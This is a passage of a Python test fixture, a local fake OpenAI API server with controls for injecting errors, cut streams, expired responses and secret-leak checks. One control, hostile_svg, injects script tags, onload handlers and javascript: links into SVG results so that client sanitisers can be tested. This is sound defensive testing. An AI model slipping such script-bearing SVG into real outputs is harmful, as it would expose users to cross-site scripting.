    def _cancel(self, response_id: str, request: RecordedRequest) -> None:
        # responses.cancel takes no parameters: the SDK posts an empty body.
        if request.body.strip() not in (b"", b"{}"):
            if request.json is None:
                raise ApiError(400, "We could not parse the JSON body of your request.", code="invalid_json")
            check_fields(request.json, {})
        self._send_json(200, self.fake._cancel(response_id))

    def _input_items(self, response_id: str, query: str) -> None:
        """GET /v1/responses/{id}/input_items: the items of the request that made the response, a page at a time."""
        params = _query_body(query, INPUT_ITEMS_FIELDS)
        items = self.fake._input_items_of(response_id)
        if items is None:
            raise _not_found(response_id)
        if params.get("order", "desc") == "desc":
            items = items[::-1]
        if "after" in params:
            ids = [item["id"] for item in items]
            if params["after"] not in ids:
                raise _invalid(f"No input item with id '{params['after']}' in response '{response_id}'.", "after")
            items = items[ids.index(params["after"]) + 1 :]
        page = items[: params.get("limit", 20)]
        self._send_json(
            200,
            {
                "object": "list",
                "data": page,
                "first_id": page[0]["id"] if page else None,
                "last_id": page[-1]["id"] if page else None,
                "has_more": len(items) > len(page),
            },
        )

    def _file_by_id(self, file_id: str, *, content: bool) -> None:
        if not content:
            self._send_json(200, self.fake._file_object(file_id))
            return
        data = self.fake.files.get(file_id)
        if data is None:
            raise ApiError(404, f"No such File object: {file_id}", param="id")
        self._send_bytes(200, data, "application/octet-stream")

    def _send_bytes(self, status: int, data: bytes, content_type: str, headers: dict[str, str] | None = None) -> None:
        self.answered = True
        self.send_response(status)
        self.send_header("Content-Type", content_type)
        self.send_header("Content-Length", str(len(data)))
        self.send_header("x-request-id", _new_id("req_"))
        for key, value in (headers or {}).items():
            self.send_header(key, value)
        self.end_headers()
        self.wfile.write(data)

    def _send_json(self, status: int, obj: Any, headers: dict[str, str] | None = None) -> None:
        self._send_bytes(status, json.dumps(obj).encode("utf-8"), "application/json", headers)

    def _send_error(self, error: ApiError) -> None:
        headers = {}
        if error.status == 429 or error.status >= 500:
            headers["retry-after-ms"] = "10"
        headers.update(error.headers)
        self._send_json(error.status, error.body(), headers)

    # ---- POST /v1/responses

    def _post_responses(self, request: RecordedRequest) -> None:
        fake = self.fake
        fake._sleep(fake.latency)
        failure = fake._pop_failure()
        if failure is not None:
            raise failure
        if request.json is None:
            raise ApiError(400, "We could not parse the JSON body of your request.", code="invalid_json")
        fake._refuse_background(request.json)
        outcome = fake._pop_outcome()
        kind = outcome.kind if outcome else None
        if outcome is not None and kind == "hang":
            fake._sleep(float(outcome.kw["seconds"]))
        stream = request.json.get("stream") is True
        if kind == "stream_cut" and not stream and request.json.get("background") is not True:
            raise _CloseConnection
        plan = fake._plan(request.json)
        if plan.background:
            self._post_background(plan, outcome)
            return
        response = fake._build_response(plan, outcome)
        if outcome is not None and kind == "forgotten":
            after = float(outcome.kw.get("after", 0.0))
            if after > 0:
                fake._forget_later(response["id"], after)
            else:
                plan = dataclasses.replace(plan, store=False)  # answered, never kept
        if not stream or fake._json_streams:
            fake._store(plan, response)
            self._send_json(200, response)
            return
        self._stream(plan, response, cut=kind == "stream_cut", drop=fake._pop_drop())

    # ---- POST /v1/images/generations and /v1/images/edits

    def _post_images(self, request: RecordedRequest, *, edit: bool) -> None:
        fake = self.fake
        fake._sleep(fake.latency)
        failure = fake._pop_failure()
        if failure is not None:
            raise failure
        plan = fake._images_plan(request, edit=edit)
        images = fake._images_results(plan)
        if not plan.stream:
            self._send_json(200, fake._images_response(plan, images))
            return
        self._start_sse()
        for event in fake._images_events(plan, images):
            self._send_chunk(_sse_frame(event))
        self._send_chunk(b"")

    def _post_background(self, plan: _Plan, outcome: _Outcome | None) -> None:
        """Start a background response, then answer it queued, or follow it as a stream."""
        fake = self.fake
        job, queued = fake._start_job(plan, outcome)
        cut = outcome is not None and outcome.kind == "stream_cut"
        if not plan.stream:
            if cut:
                raise _CloseConnection  # the response was created; only its answer is lost
            self._send_json(200, queued)
        elif fake._json_streams:
            # What a buffering proxy hands over: nothing until the response has ended, then one JSON object.
            self._send_json(200, fake._wait_job(job))
        else:
            self._follow(job, after=-1, drop=fake._pop_drop(), cut_after=_cut_point(plan) if cut else None)

    def _start_sse(self) -> None:
        self.answered = True
        self.send_response(200)
        self.send_header("Content-Type", "text/event-stream; charset=utf-8")
        self.send_header("Cache-Control", "no-cache")
        # Chunked framing keeps the connection reusable and makes a cut stream a protocol error
        # on the client, like a real dropped connection.
        self.send_header("Transfer-Encoding", "chunked")
        self.send_header("x-request-id", _new_id("req_"))
        self.end_headers()

    def _send_chunk(self, payload: bytes) -> None:
        self.wfile.write(b"%x\r\n%s\r\n" % (len(payload), payload))

    def _stream(self, plan: _Plan, response: dict[str, Any], *, cut: bool, drop: int | None) -> None:
        self._start_sse()
        cut_after = _cut_point(plan)
        for sequence, event in enumerate(self.fake._events(plan, response)):
            if sequence:
                self.fake._sleep(self.fake.event_delay)
            event["sequence_number"] = sequence
            self._send_chunk(_sse_frame(event))
            if (cut and event["type"] == cut_after) or (drop is not None and sequence + 1 >= drop):
                raise _CloseConnection
        self._send_chunk(b"")
        self.fake._store(plan, response)

    def _follow(self, job: _Job, *, after: int, drop: int | None, cut_after: str | None = None) -> None:
        """Stream a background response's events after sequence number ``after``, then live ones until it ends.

        The response does not depend on this connection: closing it (either side) leaves the response running.
        """
        fake = self.fake
        self._start_sse()
        index, sent = max(0, after + 1), 0
        while True:
            with fake._changed:
                fake._changed.wait_for(lambda start=index: len(job.frames) > start or job.over or fake._stopping.is_set(), timeout=1.0)
                frames, types = job.frames[index:], job.types[index:]
                finished, forgotten = job.status in _FINISHED, job.forgotten
            for frame, event_type in zip(frames, types):
                self._send_chunk(frame)
                index, sent = index + 1, sent + 1
                if event_type == cut_after or (drop is not None and sent >= drop):
                    raise _CloseConnection
            if forgotten or fake._stopping.is_set():
                raise _CloseConnection
            if finished:
                self._send_chunk(b"")
                return


# --------------------------------------------------------------------------- the fake


class FakeOpenAI:
    """A local fake of the OpenAI API (Responses + image_generation tool, Images, Files), as strict as the real one."""

    def __init__(self, *, latency: float = 0.0, port: int = 0, render_seconds: float = 0.2, photo_like: bool = False) -> None:
        self.latency = latency  # seconds before answering POST /v1/responses; settable any time
        self.event_delay = 0.0  # seconds between SSE events of a (foreground) streamed create
        self.expired_status = 400  # status for an unknown previous_response_id (400 or 404)
        # Background responses: seconds queued before work starts, extra seconds queued per completion_window,
        # and seconds from the start of the work to the final image (spread over the partial images).
        self.queued_seconds = 0.05
        self.window_seconds: dict[str, float] = {"soonest": 0.0, "2h": 1.0, "8h": 2.0}
        self.render_seconds = render_seconds
        # Every final image a photo-like picture (render_photo: about 1.6 MB as PNG at 1024x1024, the same for
        # every prompt, and without the inset of an edit's input image) instead of a flat-colour drawing;
        # partial images stay flat drawings. Settable any time.
        self.photo_like = photo_like
        self.requests: list[RecordedRequest] = []
        self.files: dict[str, bytes] = {}
        self.responses: dict[str, dict[str, Any]] = {}
        self.leaks: list[Leak] = []  # watched secrets found in requests; see watch()
        self.generations = 0  # image generations started (foreground and background), see queue_outcome
        self._secrets: list[tuple[str | bytes, bytes]] = []  # (as given, as bytes)
        self._port = port
        self._lock = threading.Lock()
        # Background responses and the streams following them wait on this for new events.
        self._changed = threading.Condition(self._lock)
        self._failures: deque[ApiError] = deque()
        self._outcomes: deque[_Outcome] = deque()
        self._drops: deque[int] = deque()
        self._jobs: dict[str, _Job] = {}
        self._timers: list[threading.Timer] = []
        self._refusing_background = False
        self._json_streams = False
        self._file_objects: dict[str, dict[str, Any]] = {}
        self._inputs: dict[str, list[dict[str, Any]]] = {}  # response id -> its request's input items
        self._hostile_svg = False
        self._stopping = threading.Event()
        self._server: _Server | None = None
        self._thread: threading.Thread | None = None

    # ---- lifecycle

    def start(self) -> FakeOpenAI:
        if self._server is not None:
            return self
        self._stopping.clear()
        self._server = _Server(("127.0.0.1", self._port), self)
        self._thread = threading.Thread(target=self._server.serve_forever, kwargs={"poll_interval": 0.05}, name="fake-openai", daemon=True)
        self._thread.start()
        return self

    def stop(self) -> None:
        server, thread = self._server, self._thread
        if server is None:
            return
        self._stopping.set()
        with self._changed:
            self._changed.notify_all()  # background responses and the streams following them end now
            jobs = [job.thread for job in self._jobs.values() if job.thread is not None]
            timers, self._timers = self._timers, []
        for timer in timers:
            timer.cancel()
        server.shutdown()
        server.server_close()
        server.close_open_sockets()
        if thread is not None:
            thread.join(timeout=5)
        for job_thread in jobs:
            job_thread.join(timeout=5)
        self._server = self._thread = None

    def __enter__(self) -> FakeOpenAI:
        return self.start()

    def __exit__(self, *exc: object) -> None:
        self.stop()

    @property
    def port(self) -> int:
        if self._server is None:
            raise RuntimeError("FakeOpenAI is not started")
        return int(self._server.server_address[1])

    @property
    def base_url(self) -> str:
        return f"http://127.0.0.1:{self.port}/v1"

    # ---- test controls

    def response_requests(self) -> list[dict[str, Any]]:
        """Parsed JSON bodies of every POST /v1/responses, in order."""
        with self._lock:
            return [r.json for r in self.requests if r.method == "POST" and r.path == "/v1/responses" and r.json is not None]

    def image_requests(self, kind: str | None = None) -> list[dict[str, Any]]:
        """The fields of every Images API request (``kind`` "generations" or "edits" for one endpoint), in order.

        A JSON body as it came; a multipart form as the body it stands for: ``svg[model]`` nested as
        ``{"svg": {"model": ...}}``, numbers and booleans in their types, ``image`` a list and ``mask`` and
        ``markup`` single ``FormFile`` values.
        """
        wanted = {"generations", "edits"} if kind is None else {kind}
        with self._lock:
            received = [
                r for r in self.requests if r.method == "POST" and r.path.rsplit("/", 1)[-1] in wanted and r.path.startswith("/v1/images/")
            ]
        fields = []
        for request in received:
            if request.json is not None:
                fields.append(request.json)
                continue
            try:
                parts = _form_parts(request)
            except ApiError:
                continue
            try:
                fields.append(form_body(parts, IMAGE_EDIT_FIELDS))
            except ApiError:  # a value of the wrong type: every field as text
                fields.append(form_body(parts, {}))
        return fields

    def hostile_svg(self, on: bool = True) -> None:
        """While on, every SVG result (Responses and Images API) carries each ``HOSTILE_SVG`` part: a ``<script>``,
        an ``onload`` handler, ``href`` and ``xlink:href`` links to another site and a ``javascript:`` link.

        The document stays well-formed, as an SVG author model could write it; a sanitiser has to take them out.
        """
        with self._lock:
            self._hostile_svg = on

    def fail_next(
        self,
        status: int,
        code: str | None = None,
        message: str | None = None,
        *,
        type: str | None = None,
        param: str | None = None,
        count: int = 1,
        headers: dict[str, str] | None = None,
    ) -> None:
        """Make the next ``count`` POST /v1/responses or /v1/images/* answer this error (after latency, before validation)."""
        text = message or _DEFAULT_MESSAGES.get(code or "", HTTPStatus(status).phrase)
        with self._lock:
            for _ in range(count):
                self._failures.append(ApiError(status, text, code=code, type=type, param=param, headers=headers))

    def queue_outcome(self, kind: str, **kw: Any) -> None:
        """Make the next POST /v1/responses that gets past auth and ``fail_next`` behave specially.

        Outcomes queue up FIFO, one per request; a queued outcome is used up even if the request
        then fails validation. Kinds: ``no_image`` (only an assistant message), ``moderated``
        (``categories=[...]``), ``bad_base64``, ``damaged_image`` (valid base64 of a PNG cut in half),
        ``failed_response`` (``code=``, ``message=``; status "failed", no image),
        ``incomplete`` (``reason=``, default "max_output_tokens"; status "incomplete", no image),
        ``stream_cut`` (streaming: close after the first partial image, or after ``generating``
        when no partials were asked for; otherwise close without an answer, and a background
        response is created all the same), ``hang`` (``seconds=``, then answer normally),
        ``forgotten`` (``after=`` seconds, default 0: the response is answered, then GET, cancel and
        retrieve streams answer 404 from ``after`` seconds after it was created; a background response
        still running then stops, and streams following it are cut).

        A background response runs its outcome on its own clock: ``failed_response`` and ``incomplete``
        end it after ``render_seconds``. ``generations`` counts only the responses that got to render an image.
        """
        if kind not in OUTCOME_KINDS:
            raise ValueError(f"unknown outcome kind {kind!r}; expected one of {sorted(OUTCOME_KINDS)}")
        if kind == "hang":
            float(kw["seconds"])
        if kind == "forgotten":
            float(kw.get("after", 0.0))
        with self._lock:
            self._outcomes.append(_Outcome(kind, kw))

    def expire_responses(self) -> None:
        """Forget every stored response, as if previous_response_id values had expired.

        Background responses are forgotten too, running ones included: they stop, and streams following them are cut.
        """
        with self._changed:
            self.responses.clear()
            for job in self._jobs.values():
                job.forgotten = True
            self._changed.notify_all()

    def drop_stream_after(self, events: int, *, count: int = 1) -> None:
        """Make the next ``count`` SSE streams (streamed creates or retrieves) hang up after ``events`` events.

        A background response keeps running; a foreground one is lost with its stream (it is not stored).
        """
        if events < 1:
            raise ValueError("drop_stream_after needs at least one event before the drop")
        with self._lock:
            self._drops.extend([events] * count)

    def refuse_background(self, refuse: bool = True) -> None:
        """While on, any POST /v1/responses whose body has ``background`` or ``background_options`` answers 400.

        The error is OpenAI's for a parameter it does not know (code ``unknown_parameter``, ``param``
        naming it), as an older deployment or a proxy would answer. It comes after ``fail_next`` and
        before ``queue_outcome``, so a queued outcome is left for the next request.
        """
        with self._lock:
            self._refusing_background = refuse

    def answer_streams_with_json(self, on: bool = True) -> None:
        """While on, a streamed create (``stream: true``) is answered as plain JSON: the final response object.

        Content-Type is application/json. A background one is answered once it has ended, as a buffering proxy would.
        Retrieve streams are not affected.
        """
        with self._lock:
            self._json_streams = on

    def background_responses(self) -> dict[str, str]:
        """Every background response created so far, in order: id -> status ("forgotten" once forgotten or deleted)."""
        with self._lock:
            return {job.id: "forgotten" if job.forgotten else job.status for job in self._jobs.values()}

    def wait_background(self, timeout: float = 5.0) -> dict[str, str]:
        """Wait until no background response is queued or in progress; return ``background_responses()``.

        Raises TimeoutError naming the ones still running after ``timeout`` seconds.
        """
        with self._changed:
            if not self._changed.wait_for(lambda: all(job.over for job in self._jobs.values()), timeout):
                running = [job.id for job in self._jobs.values() if not job.over]
                raise TimeoutError(f"background responses still running after {timeout} s: {running}")
        return self.background_responses()

    def watch(self, *secrets: str | bytes) -> None:
        """Search every request received from now on for these values, adding to those already watched.

        A str is looked for as UTF-8. Each request is searched whole and through every decoding a client
        could hide a value behind (see ``Leak.where``), including requests the fake answers with an error
        or refuses before routing. Hits land in ``leaks``; ``assert_no_leaks`` fails on any.
        """
        for secret in secrets:
            if not isinstance(secret, (str, bytes)):
                raise TypeError(f"watch() takes str or bytes secrets, not {type(secret).__name__}")
            if not secret:
                raise ValueError("watch() needs non-empty secrets: an empty one is in every request")
        with self._lock:
            known = {needle for _, needle in self._secrets}
            for secret in secrets:
                needle = secret.encode("utf-8") if isinstance(secret, str) else bytes(secret)
                if needle not in known:
                    known.add(needle)
                    self._secrets.append((secret, needle))

    def assert_no_leaks(self) -> None:
        """Raise AssertionError listing every leak found so far; secrets show only their first characters."""
        with self._lock:
            leaks = list(self.leaks)
        if leaks:
            listed = "\n".join(f"  {leak}" for leak in leaks)
            raise AssertionError(f"{len(leaks)} watched secret(s) reached the fake OpenAI server:\n{listed}")

    # ---- internals used by the handler

    def _sleep(self, seconds: float) -> None:
        if seconds > 0:
            self._stopping.wait(seconds)

    def _record(self, request: RecordedRequest) -> None:
        with self._lock:
            self.requests.append(request)

    def _watching(self) -> bool:
        with self._lock:
            return bool(self._secrets)

    def _watch_request(self, raw: bytearray, body: bytes | None) -> None:
        with self._lock:
            watched = list(self._secrets)
        if not watched:
            return
        method, path, found = _find_leaks(watched, bytes(raw), body)
        if found:
            with self._lock:
                self.leaks += [
                    Leak(
                        secret=secret,
                        method=_redact(method, watched),
                        path=_redact(path, watched),
                        where=_redact(where, watched),
                    )
                    for secret, where in found
                ]

    def _pop_failure(self) -> ApiError | None:
        with self._lock:
            return self._failures.popleft() if self._failures else None

    def _pop_outcome(self) -> _Outcome | None:
        with self._lock:
            return self._outcomes.popleft() if self._outcomes else None

    def _pop_drop(self) -> int | None:
        with self._lock:
            return self._drops.popleft() if self._drops else None

    def _forget_later(self, response_id: str, after: float) -> None:
        def forget() -> None:
            with self._lock:
                self.responses.pop(response_id, None)

        timer = threading.Timer(after, forget)
        timer.daemon = True
        with self._lock:
            self._timers.append(timer)
        timer.start()

    # ---- background responses

    def _job(self, response_id: str) -> _Job | None:
        with self._lock:
            job = self._jobs.get(response_id)
            return None if job is None or job.forgotten else job

    def _start_job(self, plan: _Plan, outcome: _Outcome | None) -> tuple[_Job, dict[str, Any]]:
        """Create a background response (events ``response.created`` and ``response.queued``) and start its clock."""
        queued = dict(self._response_head(plan), status="queued", completed_at=None)
        # Partial images are made whether or not this request streams: a retrieve stream may ask for them.
        job = _Job(queued, dataclasses.replace(plan, stream=True), outcome)
        if outcome is not None and outcome.kind == "forgotten":
            job.forget_at = time.monotonic() + float(outcome.kw.get("after", 0.0))
        name = f"fake-openai-{job.id[:13]}"
        job.thread = threading.Thread(target=self._run_job, args=(job,), name=name, daemon=True)
        with self._changed:
            self._jobs[job.id] = job
            self._inputs[job.id] = _input_items(plan.body.get("input"))
            self._emit(
                job,
                queued,
                [{"type": "response.created", "response": queued}, {"type": "response.queued", "response": queued}],
            )
        job.thread.start()
        return job, queued

    def _run_job(self, job: _Job) -> None:
        """The background response's own clock: queued, in progress, then its events paced over ``render_seconds``."""
        try:
            if not self._job_sleep(job, self.queued_seconds + self.window_seconds.get(job.plan.completion_window, 0.0)):
                return
            working = dict(job.response, status="in_progress")
            if not self._job_step(job, working, [{"type": "response.in_progress", "response": working}]):
                return
            final = self._build_response(job.plan, job.outcome)
            final.update(id=job.id, created_at=job.created_at)
            body = list(self._body_events(job.plan, final))
            # Time passes before each partial image and before the image is done, or before the end when
            # there is no image; everything after the last pause goes out at once, so a cancel never
            # lands between the final image and the end of the response.
            pauses = [
                index
                for index, event in enumerate(body)
                if event["type"] in ("response.image_generation_call.partial_image", "response.image_generation_call.completed")
            ] or [0]
            bounds = [*sorted({0, *pauses}), len(body)]
            done: list[dict[str, Any]] = []
            for start, end in itertools.pairwise(bounds):
                if start in pauses and not self._job_sleep(job, self.render_seconds / len(pauses)):
                    return
                batch = body[start:end]
                done += [event["item"] for event in batch if event["type"] == "response.output_item.done"]
                if end == len(body) and final["status"] == "completed":
                    final["completed_at"] = int(time.time())
                snapshot = final if end == len(body) else dict(working, output=list(done))
                if not self._job_step(job, snapshot, batch):
                    return
        except Exception as exc:
            traceback.print_exc()
            failed = dict(
                job.response,
                status="failed",
                error={"code": "server_error", "message": f"fake_openai bug: {exc!r}"},
            )
            self._job_step(job, failed, [{"type": "response.failed", "response": failed}])
        finally:
            self._job_linger(job)

    def _job_sleep(self, job: _Job, seconds: float) -> bool:
        """Let ``seconds`` pass on the job's clock; False if it ended meanwhile (cancelled, forgotten, fake stopped)."""
        deadline = time.monotonic() + seconds
        with self._changed:
            while True:
                if job.over or self._stopping.is_set():
                    return False
                now = time.monotonic()
                if job.forget_at is not None and now >= job.forget_at:
                    self._forget(job)
                    return False
                if now >= deadline:
                    return True
                self._changed.wait((deadline if job.forget_at is None else min(deadline, job.forget_at)) - now)

    def _job_linger(self, job: _Job) -> None:
        """After the job ended, wait for its ``forgotten`` moment, if it has one still to come."""
        with self._changed:
            while job.forget_at is not None and not job.forgotten and not self._stopping.is_set():
                remaining = job.forget_at - time.monotonic()
                if remaining <= 0:
                    self._forget(job)
                    return
                self._changed.wait(remaining)

    def _job_step(self, job: _Job, response: dict[str, Any], events: list[dict[str, Any]]) -> bool:
        """Publish ``events`` and the new snapshot at once; False (nothing published) if the job ended meanwhile."""
        with self._changed:
            if job.over or self._stopping.is_set():
                return False
            self._emit(job, response, events)
            return True

    def _emit(self, job: _Job, response: dict[str, Any], events: list[dict[str, Any]]) -> None:
        # Caller holds self._changed.
        for event in events:
            event["sequence_number"] = len(job.frames)
            job.frames.append(_sse_frame(event))
            job.types.append(event["type"])
        job.response = response
        self.responses[job.id] = response
        self._changed.notify_all()

    def _forget(self, job: _Job) -> None:
        # Caller holds self._changed.
        job.forgotten = True
        self.responses.pop(job.id, None)
        self._changed.notify_all()

    def _wait_job(self, job: _Job) -> dict[str, Any]:
        """The job's snapshot once it has ended (or the fake stops)."""
        with self._changed:
            self._changed.wait_for(lambda: job.over or self._stopping.is_set())
            return job.response

    def _cancel(self, response_id: str) -> dict[str, Any]:
        """POST /v1/responses/{id}/cancel.

        A queued or in-progress background response becomes "cancelled" (its streams end with a
        ``response.cancelled`` event); cancelling a cancelled one answers it again (idempotent);
        cancelling a completed, failed or incomplete one answers 400 "Cannot cancel a completed response."
        (OpenAI's answer, as quoted in https://github.com/BerriAI/litellm/pull/39617); a stored foreground
        response answers 400, an unknown or forgotten one 404.
        """
        with self._changed:
            job = self._jobs.get(response_id)
            if job is None or job.forgotten:
                if response_id in self.responses:
                    raise ApiError(400, "Only responses created with the 'background' parameter set to true can be cancelled.")
                raise _not_found(response_id)
            if job.status == "cancelled":
                return job.response
            if job.status in _FINISHED:
                raise ApiError(400, f"Cannot cancel a {job.status} response.")
            cancelled = dict(job.response, status="cancelled", usage=None, tool_usage=None)
            # Not in the SDK's ResponseStreamEvent union (the SDK yields it as another event class, keeping
            # `type` and leaving `response` a dict); gateways treat it as the end of a cancelled response
            # (https://github.com/Wei-Shaw/sub2api/issues/1322).
            self._emit(job, cancelled, [{"type": "response.cancelled", "response": cancelled}])
            return cancelled

    def _get_response(self, response_id: str, *, delete: bool = False) -> dict[str, Any] | None:
        with self._changed:
            stored = self.responses.get(response_id)
            if delete and stored is not None:
                del self.responses[response_id]
                job = self._jobs.get(response_id)
                if job is not None:
                    self._forget(job)  # a deleted background response stops, and is not stored again
            return stored

    def _store(self, plan: _Plan, response: dict[str, Any]) -> None:
        if plan.store:
            with self._lock:
                self.responses[response["id"]] = response
                self._inputs[response["id"]] = _input_items(plan.body.get("input"))

    def _input_items_of(self, response_id: str) -> list[dict[str, Any]] | None:
        """The input items of a stored response, oldest first; None when it is not stored (or forgotten)."""
        with self._lock:
            if response_id not in self.responses:
                return None
            return list(self._inputs.get(response_id, []))

    # ---- files

    def _upload_file(self, request: RecordedRequest) -> dict[str, Any]:
        content_type = request.headers.get("content-type", "")
        if not content_type.startswith("multipart/form-data"):
            raise _invalid("Expected a multipart/form-data body.", None, None)
        # The email package parses MIME multipart bodies; prepend the header it needs.
        raw = b"Content-Type: " + content_type.encode("latin-1") + b"\r\nMIME-Version: 1.0\r\n\r\n" + request.body
        message = email.parser.BytesParser(policy=email.policy.HTTP).parsebytes(raw)
        if not message.is_multipart():
            raise _invalid("Could not parse the multipart body.", None, None)
        fields: dict[str, tuple[str | None, bytes]] = {}
        for part in message.iter_parts():
            name = part.get_param("name", header="content-disposition")
            payload = part.get_payload(decode=True)
            if isinstance(name, str) and isinstance(payload, bytes):
                fields[name] = (part.get_filename(), payload)
        if "file" not in fields:
            raise _invalid("Missing required parameter: 'file'.", "file", "missing_required_parameter")
        purpose = fields.get("purpose", (None, b""))[1].decode("utf-8", "replace").strip()
        if not purpose:
            raise _invalid("Missing required parameter: 'purpose'.", "purpose", "missing_required_parameter")
        filename, content = fields["file"]
        file_id = "file-" + secrets.token_hex(12)
        obj = {
            "id": file_id,
            "object": "file",
            "bytes": len(content),
            "created_at": int(time.time()),
            "filename": filename or "upload",
            "purpose": purpose,
            "status": "processed",
            "expires_at": None,
            "status_details": None,
        }
        with self._lock:
            self.files[file_id] = content
            self._file_objects[file_id] = obj
        return obj

    def _file_object(self, file_id: str) -> dict[str, Any]:
        with self._lock:
            if file_id not in self.files:
                raise ApiError(404, f"No such File object: {file_id}", param="id")
            obj = self._file_objects.get(file_id)
            if obj is None:
                # Tests may put bytes into `files` directly; describe them as user_data.
                obj = {
                    "id": file_id,
                    "object": "file",
                    "bytes": len(self.files[file_id]),
                    "created_at": int(time.time()),
                    "filename": file_id,
                    "purpose": "user_data",
                    "status": "processed",
                    "expires_at": None,
                    "status_details": None,
                }
            return obj

    # ---- the Images API

    def _images_plan(self, request: RecordedRequest, *, edit: bool) -> _ImagesPlan:
        """A checked POST /v1/images/generations (JSON) or /v1/images/edits (multipart) request."""
        rules = IMAGE_EDIT_FIELDS if edit else IMAGE_GENERATE_FIELDS
        if edit:
            if not request.headers.get("content-type", "").startswith("multipart/form-data"):
                raise _invalid("Expected a multipart/form-data body.", None, None)
            body = form_body(_form_parts(request), rules)
        elif request.json is None:
            raise ApiError(400, "We could not parse the JSON body of your request.", code="invalid_json")
        else:
            body = request.json
        check_fields(body, rules)
        for name in ("prompt", "image") if edit else ("prompt",):
            if not body.get(name):
                raise _invalid(f"Missing required parameter: '{name}'.", name, "missing_required_parameter")
        model = body.get("model")
        if not model:
            # model: "Specify a model explicitly." (types/image_generate_params.py)
            raise _invalid("Missing required parameter: 'model'. Specify a GPT image model.", "model", "missing_required_parameter")
        for legacy in ("response_format", "style"):
            # "Legacy ... parameter for retired image models. Unsupported for GPT image models"
            if body.get(legacy) is not None:
                raise _invalid(f"Unsupported parameter: '{legacy}' is not supported with model '{model}'.", legacy, "unsupported_parameter")
        svg = body.get("svg")
        if not edit and svg is not None and not svg.get("model"):
            raise _invalid("Missing required parameter: 'svg.model'.", "svg.model", "missing_required_parameter")
        mask = body.get("mask")
        spec = image_spec(body, where="", model=model, mask_param="mask" if mask is not None else None, svg_author=DEFAULT_SVG_AUTHOR)
        n = body.get("n") or 1
        stream = body.get("stream") is True
        # svg: "SVG generation requires n=1 and does not support streaming"; frame_count: "GIF output does not
        # support streaming".
        if spec.output_format == "svg" and n != 1:
            raise _invalid(f"SVG output requires n=1, not n={n}.", "n")
        if spec.output_format in ("svg", "gif") and stream:
            raise _invalid(f"{spec.output_format.upper()} output does not support streaming.", "stream")
        inputs = self._edit_images(body, model) if edit else []
        return _ImagesPlan(
            edit=edit,
            prompt=body["prompt"],
            spec=dataclasses.replace(spec, action="edit" if edit else "generate"),
            n=n,
            stream=stream,
            inputs=inputs,
            safety_identifier=body.get("safety_identifier") or body.get("user") or None,
        )

    def _edit_images(self, body: dict[str, Any], model: str) -> list[Image.Image]:
        """The decoded ``image`` files of an edit, with its ``mask`` and ``markup`` checked against the first."""
        files: list[FormFile] = body["image"]
        if len(files) > MAX_EDIT_IMAGES:
            raise _invalid(f"Too many images: {len(files)}. You can provide up to {MAX_EDIT_IMAGES}.", "image")
        pictures = []
        for file in files:
            if len(file.data) >= MAX_EDIT_IMAGE_BYTES:
                raise _invalid("Each image must be less than 50MB.", "image", "image_too_large")
            picture = _decode_image(file.data, "image")
            if picture.format not in ("PNG", "WEBP", "JPEG"):
                raise _invalid(f"Invalid image format {picture.format}: use png, webp or jpg.", "image", "invalid_image_format")
            pictures.append(picture)
        first = pictures[0]
        mask, markup = body.get("mask"), body.get("markup")
        if mask is not None:
            # mask: "Must be a valid PNG file, less than 4MB, and have the same dimensions as `image`."
            if len(mask.data) >= MAX_MASK_BYTES:
                raise _invalid("The mask must be less than 4MB.", "mask", "image_too_large")
            picture = _decode_image(mask.data, "mask")
            if picture.format != "PNG" or "A" not in picture.getbands():
                raise _invalid("The mask must be a PNG with an alpha channel.", "mask", "invalid_image_format")
            if picture.size != first.size:
                raise _invalid(f"The mask is {picture.width}x{picture.height}; the image is {first.width}x{first.height}.", "mask")
        if markup is not None:
            # markup: "A transparent PNG overlaid on the first image ... Must match that image's dimensions after
            # orientation and contain transparent pixels. Supports GPT Image 2.5. Cannot be combined with mask."
            if not IMAGE_MODELS[model].markup:
                raise _invalid(f"markup is not supported with model '{model}'.", "markup", "unsupported_parameter")
            if mask is not None:
                raise _invalid("markup cannot be combined with mask.", "markup")
            picture = _decode_image(markup.data, "markup")
            if picture.format != "PNG":
                raise _invalid("markup must be a PNG.", "markup", "invalid_image_format")
            upright = ImageOps.exif_transpose(first)
            if picture.size != upright.size:
                raise _invalid(f"markup is {picture.width}x{picture.height}; the image is {upright.width}x{upright.height}.", "markup")
            if picture.convert("RGBA").getchannel("A").getextrema()[0] != 0:
                raise _invalid("markup must contain transparent pixels.", "markup")
        return pictures

    def _images_results(self, plan: _ImagesPlan) -> list[bytes]:
        inset = plan.inputs[0] if plan.inputs else None
        return [self._render(plan.spec, plan.prompt if n == 0 else f"{plan.prompt} #{n + 1}", inset) for n in range(plan.n)]

    def _images_usage(self, plan: _ImagesPlan, images: int) -> dict[str, Any]:
        text, pictures = 10 + len(plan.prompt) // 4, 1024 * len(plan.inputs)
        output = _spec_tokens(plan.spec) * images
        return {
            "input_tokens": text + pictures,
            "input_tokens_details": {"image_tokens": pictures, "text_tokens": text},
            "output_tokens": output,
            "output_tokens_details": {"image_tokens": output, "text_tokens": 0},
            "total_tokens": text + pictures + output,
        }

    def _images_response(self, plan: _ImagesPlan, images: list[bytes]) -> dict[str, Any]:
        """The ImagesResponse (types/images_response.py) for ``images``."""
        spec = plan.spec
        answer: dict[str, Any] = {
            "created": int(time.time()),
            "background": spec.background,
            "data": [{"b64_json": base64.b64encode(image).decode()} for image in images],
            "output_format": spec.output_format,
            "quality": spec.quality,
            "size": spec.size,
            "usage": self._images_usage(plan, len(images)),
        }
        if spec.svg_author is not None:
            answer["svg_usage"] = _svg_usage(spec, plan.prompt)
        if plan.safety_identifier:
            answer["safety_identifier"] = plan.safety_identifier
        return answer

    def _images_events(self, plan: _ImagesPlan, images: list[bytes]) -> Iterator[dict[str, Any]]:
        """The stream of an Images API call: each image's partial images, then its completed event
        (types/image_gen_stream_event.py and image_edit_stream_event.py)."""
        spec = plan.spec
        prefix = "image_edit" if plan.edit else "image_generation"
        common = {"background": spec.background, "output_format": spec.output_format, "quality": spec.quality, "size": spec.size}
        for image in images:
            for n in range(spec.partial_images):
                partial = _partial_image(plan.prompt, spec, n)
                yield {
                    "type": f"{prefix}.partial_image",
                    "b64_json": base64.b64encode(partial).decode(),
                    "created_at": int(time.time()),
                    "partial_image_index": n,
                    **common,
                }
            completed = {
                "type": f"{prefix}.completed",
                "b64_json": base64.b64encode(image).decode(),
                "created_at": int(time.time()),
                "usage": self._images_usage(plan, 1),
                **common,
            }
            if plan.safety_identifier:
                completed["safety_identifier"] = plan.safety_identifier
            yield completed

    # ---- request validation

